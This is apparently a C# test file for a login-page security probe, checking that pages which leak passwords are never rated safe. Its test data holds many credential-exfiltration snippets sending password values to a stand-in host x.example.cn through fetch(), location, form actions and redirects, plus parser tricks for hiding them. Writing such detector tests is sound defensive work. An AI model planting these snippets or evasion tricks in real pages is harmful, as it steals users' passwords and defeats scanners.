using System.Text;
using SmartCity.SecurityCheck.Model;
using SmartCity.SecurityCheck.TestKit;

namespace SmartCity.SecurityCheck.Probes.Tls.Tests;

/// <summary>Login pages that send the password elsewhere than a hurried reader believes: none of them may be told as safe.</summary>
public sealed class LoginDisguiseTests
{
    private const string Good = "<form method=post action=do><input type=password></form>";
    private const string Decoy = "<form method=post hidden><input type=password></form>";
    private const string Evil = "<form method=get action='http://x.example.cn/'>";

    private static readonly Uri Page = new("https://portal.example.cn/a/login");

    [Theory]
    [InlineData("<form method=post action='/do'><input type=password name=p><button formaction='http://x.example.cn/' formmethod=get>go</button></form>")]
    [InlineData("<base href='http://x.example.cn/'>" + Good)]
    [InlineData("<form method=post data-x=\"a>b\" action='http://x.example.cn/'><input type=password></form>")]
    [InlineData("<!-->" + Evil + "<input type=password></form> <!-- x -->" + Decoy)]
    [InlineData("<!-- x --!>" + Evil + "<input type=password></form> <!-- x -->" + Decoy)]
    [InlineData(Decoy + "<input id=p type=password><button onclick=\"location='http://x.example.cn/?p='+p.value\">")]
    [InlineData("<form id=f method=get action='http://x.example.cn/'></form><input type=password form=f name=p>" + Decoy)]
    [InlineData(Evil + "<input type='p&#97;ssword'></form>" + Decoy)]
    [InlineData("<form method=post action='javascript:send()'><input type=password></form>")]
    [InlineData("<form method=post onsubmit=\"fetch('http://x.example.cn/?p='+p.value)\"><input type=password></form>")]
    [InlineData("<script>var t='" + Good + "';</script><div id=app></div>" + Good)]
    [InlineData("<form method=get method=post action='http://x.example.cn/' action=do><input type=password></form>")]
    [InlineData("<form/method=get/action='http://x.example.cn/'><input/type=password></form>" + Decoy)]
    [InlineData(Evil + Good + "</form>")]
    public void What_was_sent_in_is_not_safe(string page) => Assert.False(IsSafe(page), page);

    /// <summary>Each leads a browser elsewhere, or to another form, than the words seem to say.</summary>
    [Theory]
    [InlineData(Evil + "<! </form><form method=post> <input type=password></form>")]
    [InlineData(Evil + "<? </form><form method=post> <input type=password></form>")]
    [InlineData("</ x='>" + Evil + "<input type=password></form></ '>" + Decoy)]
    [InlineData("<textarea></textareax><!-- </textarea>" + Evil + "<input type=password></form> -->" + Decoy)]
    [InlineData("<template shadowrootmode=open>" + Evil + "<input type=password></form></template>" + Decoy)]
    [InlineData("<svg><title>" + Evil + "<input type=password></form></title></svg>" + Decoy)]
    [InlineData("<svg><form method=post></svg>" + Evil + "<input type=password></form>")]
    [InlineData("<svg><base href='/a/'></svg><base href='http://x.example.cn/'>" + Good)]
    [InlineData("<svg><![CDATA[ > </svg>" + Decoy + "<svg> ]]></svg><input type=text>")]
    [InlineData(Evil + "<input type='p&#97ssword'></form>" + Decoy)]
    [InlineData("<form method=post action='http&colon;//x.example.cn/'><input type=password></form>")]
    [InlineData("<form method=post action='ht\ntp://x.example.cn/'><input type=password></form>")]
    [InlineData("<form method=post action='http:x.example.cn/'><input type=password></form>")]
    [InlineData("<form method=post action='http:/\\x.example.cn/'><input type=password></form>")]
    [InlineData("<form method=post action='\u0001http://x.example.cn/'><input type=password></form>")]
    [InlineData("<form method=post action='java\tscript:send()'><input type=password></form>")]
    [InlineData(Good + "<script src=/login.js></script>")]
    [InlineData(Good + "<script type=module>import '/login.js'</script>")]
    [InlineData("<form method=post action=do><input type=password oninput='send()'></form>")]
    [InlineData("<body onload=send()>" + Good)]
    [InlineData(Good + "<a href=' javascript:send()'>登录</a>")]
    [InlineData(Good + "<svg><a xlink:href='javascript:send()'>登录</a></svg>")]
    [InlineData("<meta http-equiv=Refresh content='0;url=http://x.example.cn/login'>" + Good)]
    [InlineData("<iframe src='http://x.example.cn/login'></iframe>" + Decoy)]
    [InlineData("<iframe srcdoc='" + "<form method=get><input type=password></form>" + "'></iframe>" + Decoy)]
    [InlineData("<object data='/login.html'></object>" + Decoy)]
    [InlineData("<frameset><frame src='/login.html'></frameset>" + Decoy)]
    [InlineData(Evil + "<input type=text name=passwd style='-webkit-text-security:disc'></form>" + Decoy)]
    [InlineData(Evil + "<input placeholder=请输入口令></form>" + Decoy)]
    [InlineData(Evil + "<input type=' password' autocomplete=current-password></form>" + Decoy)]
    [InlineData(Evil + "<textarea name=pwd></textarea></form>" + Decoy)]
    public void What_browsers_read_otherwise_is_not_safe(string page) => Assert.False(IsSafe(page), page);

    /// <summary>Plain pages keep what they earned.</summary>
    [Theory]
    [InlineData(Good)]
    [InlineData("<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\"><html xmlns=\"http://www.w3.org/1999/xhtml\"><head><meta http-equiv=Content-Type content='text/html; charset=utf-8'><meta http-equiv=X-UA-Compatible content='IE=edge'><link rel=stylesheet href=/a.css><style>input > a { color: red }</style><title>登录</title></head><body>" + Good)]
    [InlineData("<script type='application/ld+json'>{}</script><svg viewBox='0 0 1 1'><title>图标</title><path d='M0 0'/></svg>" + Good)]
    [InlineData("<a href='javascript:void(0);'>帮助</a><a href='javascript:;'>帮助</a>" + Good)]
    [InlineData("<form method=post action='https://portal.example.cn/do?a=1&b=2&amp;c=3'><input name=user><input type=hidden name=csrf><input type=password><label>记住<input type=checkbox name=r></label><button>登录</button></form>")]
    [InlineData("<form method=get action=/search><input name=q placeholder=搜索></form><noscript><p>请启用脚本</p></noscript>" + Good)]
    public void A_plain_page_is_safe(string page) => Assert.True(IsSafe(page), string.Join('；', LoginForms.On(page, Page).Doubts));

    /// <summary>What a browser does with the page is told by its fields too.</summary>
    [Theory]
    [InlineData("Content-Type: text/html; charset=utf-8", true)]
    [InlineData("Content-Type: text/html;charset=GBK", true)]
    [InlineData("X: y", true)]
    [InlineData("Content-Type: text/html; charset=iso-2022-jp", false)]
    [InlineData("Content-Type: application/xhtml+xml", false)]
    [InlineData("Content-Type: text/plain", false)]
    [InlineData("Refresh: 0; url=http://x.example.cn/", false)]
    public async Task Fields_that_change_the_page_leave_it_open(string field, bool isTold)
    {
        await using var server = Serving(_ => (field, Good));
        var seen = await Observing.SeenAsync(new LoginPageProbe(), ProbeContexts.Local(server.Port, EndpointProtocol.Http));
        Assert.Equal(isTold, seen.TryGetProperty("forms", out _));
    }

    /// <summary>A page of one's own on / does not hide the one people use.</summary>
    [Fact]
    public async Task Both_ways_in_are_looked_at()
    {
        await using var server = Serving(p => ("X: y", p == "/login" ? Evil + "<input type=password></form>" : Good));
        var seen = await Observing.SeenAsync(new LoginPageProbe(), ProbeContexts.Local(server.Port, EndpointProtocol.Http));
        Assert.Contains(seen.GetProperty("forms").EnumerateArray(), f => f.GetProperty("action").GetString() == "http://x.example.cn/");
    }

    private static bool IsSafe(string page)
    {
        var forms = LoginForms.On(page, Page);
        return forms is { HasPassword: true, Doubts.Count: 0, Forms.Count: > 0 } && forms.Forms.All(f => f is { OverTls: true, Method: "post" });
    }

    private static ScriptedServer Serving(Func<string, (string Field, string Body)> answer) => new(async c =>
    {
        var buffer = new byte[4096];
        var read = await c.Stream.ReadAsync(buffer, c.Stop);
        var (field, body) = answer(Encoding.ASCII.GetString(buffer, 0, read).Split(' ')[1]);
        await c.SendAsync(Encoding.UTF8.GetBytes($"HTTP/1.1 200 x\r\n{field}\r\nContent-Length: {Encoding.UTF8.GetByteCount(body)}\r\n\r\n{body}"));
    });
}
